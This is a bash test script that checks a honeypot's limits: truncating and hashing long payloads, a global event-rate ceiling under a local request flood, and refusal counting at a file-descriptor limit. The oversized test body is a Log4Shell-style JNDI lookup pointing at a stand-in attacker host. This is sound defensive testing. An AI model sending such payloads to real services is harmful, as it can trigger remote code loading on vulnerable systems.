#!/usr/bin/env bash
# honeypot_limits.sh -- logs must not amplify and nothing is silently left
# unscanned: a long payload makes a bounded event (fields cut, hashed); a
# flood from many addresses meets the global events-per-second ceiling and
# is summarised in "suppressed" events; an fd limit below max_connections
# is warned about and refused connections are counted; headers past the
# 100th, chunk extensions, chunked trailers and long LDAP DNs are scanned.
source "$(dirname "$0")/honeypot/common.sh"

read -r PW PL < <(freeports 2)
cat >"$T/hp.conf" <<CONF
node limits-test
log_file $T/events.jsonl
dedup_window 0
rate_per_source 1000000
rate_burst 1000000
rate_global 50
rate_global_burst 100
max_body 128K
max_message 128K
[listener web]
protocol http
listen 127.0.0.1:$PW
[listener ldap]
protocol ldap
listen 127.0.0.1:$PL
CONF
hp_start "$T/hp.conf"
EV=$T/events.jsonl
U=http://127.0.0.1:$PW

# ---- item 11: a 64 KiB payload makes a bounded event --------------------------
python3 - "$T/body" <<'PY'
import sys
open(sys.argv[1], "w").write("${jndi:ldap://long.attacker.test/" + "A" * 65536 + "}")
PY
curl -sS -o /dev/null --data-binary @"$T/body" "$U/long"
wait_events "$EV" '"uri":"/long"'
size=$(grep -F '"uri":"/long"' "$EV" | wc -c)
echo "64 KiB body: event of $size bytes"
python3 - "$EV" "$T/body" <<'PY' || fail "long payload: event not bounded as documented"
import hashlib, json, sys
body = open(sys.argv[2], "rb").read()
ev = [json.loads(l) for l in open(sys.argv[1]) if '"/long"' in l][0]
f = [x for x in ev["findings"] if x["where"] == "body"][0]
assert f["truncated"] is True, f.keys()
assert f["payload_length"] == len(body), f["payload_length"]
assert f["payload_sha256"] == hashlib.sha256(body).hexdigest()
assert body.decode().startswith(f["payload"]) and len(f["payload"]) < 8192
PY
[ "$size" -lt 40000 ] || fail "64 KiB body made a $size-byte event"
ok "64 KiB payload: event of $size bytes, payload cut with its length and SHA-256"

# ---- item 15: a flood from many addresses meets the global ceiling --------------
python3 - "$PW" >"$T/flood.out" <<'PY'
import http.client, sys, time
port = int(sys.argv[1]); sent = 0; t0 = time.time()
for a in range(2, 62):           # 60 source addresses, 10 requests each
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=5, source_address=("127.0.1.%d" % a, 0))
    for i in range(10):
        c.request("GET", "/flood%d-%d" % (a, i)); c.getresponse().read(); sent += 1
    c.close()
print(sent, round(time.time() - t0, 2))
PY
read -r sent secs <"$T/flood.out"
wait_events "$EV" '"event":"suppressed"' 1 5
sleep 1.2 # the last second's summary
logged=$(grep -c '"uri":"/flood' "$EV" || true)
supp=$(python3 -c "
import json, sys
print(sum(json.loads(l)['suppressed']['count'] for l in open(sys.argv[1]) if '\"event\":\"suppressed\"' in l))" "$EV")
max=$(python3 -c "import math; print(100 + math.ceil(50 * ($secs + 0.5)))")
[ "$logged" -le "$max" ] || fail "global ceiling 50/s burst 100: $logged of $sent flood events logged in ${secs}s (max $max)"
[ $((logged + supp)) -eq "$sent" ] || fail "flood: $logged logged + $supp in suppressed summaries != $sent sent"
ev_query "$EV" "e['suppressed'] if e['event'] == 'suppressed' else None" | head -1 | python3 -c "
import json, sys; s = json.loads(sys.stdin.readline())
assert s['events'].get('http.request', 0) > 0 and s['sources'] and s['rate_global'] == 50, s" ||
    fail "suppressed event lacks its breakdown"
ok "flood of $sent events from 60 addresses in ${secs}s: $logged logged, $supp summarised in 'suppressed' events"
hp_stop
grep -qE "stopped: .* $supp suppressed \(global ceiling\)" "$T/hp.err" || fail "summary lacks the global suppressed count: $(grep stopped: "$T/hp.err")"

# ---- item 16: RLIMIT_NOFILE below max_connections --------------------------------
read -r PF < <(freeports 1)
cat >"$T/fd.conf" <<CONF
log_file $T/fd.jsonl
max_connections 1000
dedup_window 0
rate_global 0
[listener t]
protocol tcp
listen 127.0.0.1:$PF
CONF
: >"$T/hp.err"
(ulimit -n 128; exec "$DEFUSE" honeypot -c "$T/fd.conf" >"$T/hp.out" 2>"$T/hp.err") &
HP_PID=$!
wait_events "$T/hp.err" ready 1 10
grep -q "warning: max_connections 1000 needs" "$T/hp.err" || fail "no warning about the fd limit at start-up"
python3 - "$PF" >"$T/fdclient.out" <<'PY'
import socket, sys, time
socks = []
for i in range(150):
    s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5); socks.append(s)
time.sleep(1.5)
closed = 0
for s in socks:
    s.settimeout(0.2)
    try:
        closed += s.recv(1) == b""
    except (socket.timeout, ConnectionResetError):
        closed += 0
print(closed)
PY
closed=$(cat "$T/fdclient.out")
hp_stop
refused=$(sed -nE 's/.* ([0-9]+) refused at the file descriptor limit.*/\1/p' "$T/hp.err")
[ "${refused:-0}" -ge 50 ] || fail "150 connections at fd limit 128: refused count '${refused}' ($(grep stopped: "$T/hp.err"))"
[ "$(grep -c '"event":"connection.rejected"' "$T/fd.jsonl")" -ge 1 ] || fail "no connection.rejected event"
ok "fd limit 128 < max_connections 1000: warned at start, $refused of 150 refused and counted ($closed closed at once)"
echo "PASS"
